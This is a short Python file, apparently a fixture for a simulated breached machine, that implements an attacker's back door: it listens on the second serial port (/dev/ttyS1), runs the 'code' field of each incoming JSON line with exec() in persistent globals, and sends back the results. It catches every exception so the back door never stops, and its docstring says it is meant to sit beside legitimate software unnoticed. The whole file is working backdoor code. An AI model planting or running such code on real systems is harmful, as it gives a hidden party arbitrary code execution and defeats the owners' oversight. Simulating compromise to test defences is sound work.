"""An attacker's back door in a Machine: it runs what comes in over the second serial port.

It stands for a function that broke out of its container and became root. The breached boot image
starts it beside the honest Agent, with the image's own Python: no file and no program there is
another than the approved ones. One line of JSON is one order, and one line answers it.
"""

from __future__ import annotations

import json
import os
import termios
import tty

PORT = "/dev/ttyS1"


def main() -> None:
    """Serve orders until the power goes."""
    port = os.open(PORT, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)  # it waits for no carrier
    tty.setraw(port)
    settings = termios.tcgetattr(port)
    settings[2] |= termios.CLOCAL
    settings[4] = settings[5] = termios.B115200
    termios.tcsetattr(port, termios.TCSANOW, settings)
    os.set_blocking(port, True)
    with open(port, "rb", buffering=0) as source:
        names: dict[str, object] = {}
        rest = b""
        while True:
            rest += source.read(4096)
            *lines, rest = rest.split(b"\n")
            for line in lines:
                answer = json.dumps(carry_out(line, names)).encode() + b"\n"
                while answer:
                    answer = answer[os.write(port, answer) :]


def carry_out(line: bytes, names: dict[str, object]) -> dict[str, object]:
    """Run one order. `names` outlive it; what it assigns to `said` is its answer."""
    try:
        order = json.loads(line)
        names["said"] = None
        exec(order["code"], names)  # noqa: S102  (what a back door is for)
        return {"id": order["id"], "said": names["said"]}
    except BaseException as error:  # an order must not end the back door
        return {
            "id": order["id"] if "order" in locals() else 0,
            "failed": f"{type(error).__name__}: {error}"[:500],
        }


if __name__ == "__main__":
    main()
